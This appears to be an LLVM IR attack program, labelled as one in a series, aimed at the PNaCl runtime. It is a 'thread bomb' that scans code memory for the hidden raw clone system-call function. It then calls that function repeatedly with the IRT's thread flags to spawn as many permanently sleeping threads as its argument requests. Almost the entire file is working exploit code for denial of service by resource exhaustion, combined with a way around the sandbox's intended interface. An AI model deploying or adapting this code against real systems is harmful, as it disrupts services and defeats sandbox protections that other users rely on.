; A thread bomb: the runtime's clone function, found by scanning code memory as attack 1
; finds the raw system-call function, called with the IRT's own thread flags and a 4 KiB
; stack each, as many times as argv[2] says or until it fails; each thread sleeps for ever.
; Prints (to standard error) how many threads it made, then ends the process.
; argv: [1] __pnacl_clone's first bytes in hex, [2] how many threads to try.
define internal void @sleeper(i32 %arg) {
  call void @sleep_forever()
  unreachable
}

define void @_start(i32 %info) {
entry:
  call void @init(i32 %info)
  %pat = call i32 @arg(i32 1)
  %q = call i32 @query_addr()
  %clone = call i32 @find_code(i32 %q, i32 %pat)
  %none = icmp eq i32 %clone, 0
  br i1 %none, label %missing, label %found
missing:
  call void @exit(i32 2)
  unreachable
found:
  %nstr = call i32 @arg(i32 2)
  %n = call i32 @parse(i32 %nstr)
  %bytes = mul i32 %n, 4096
  %stacks = call i32 @map(i32 %bytes)
  %fn = inttoptr i32 %clone to i32 (i32, i32, i32, i32, i32)*
  %child = ptrtoint void (i32)* @sleeper to i32
  br label %loop
loop:
  %i = phi i32 [ 0, %found ], [ %i1, %try ]
  %done = icmp eq i32 %i, %n
  br i1 %done, label %report, label %try
try:
  %i1 = add i32 %i, 1
  %off = mul i32 %i1, 4096
  %top = add i32 %stacks, %off
  %ctid = sub i32 %top, 4096
  ; CLONE_VM|FS|FILES|SIGHAND|THREAD|SYSVSEM|CHILD_CLEARTID, as the IRT's thread_create
  %r = call i32 %fn(i32 2428672, i32 %top, i32 %ctid, i32 %child, i32 0)
  %bad = icmp slt i32 %r, 0
  br i1 %bad, label %report, label %loop
report:
  %made = phi i32 [ %i, %loop ], [ %i, %try ]
  call void @print_num(i32 %made)
  call void @exit(i32 0)
  unreachable
}
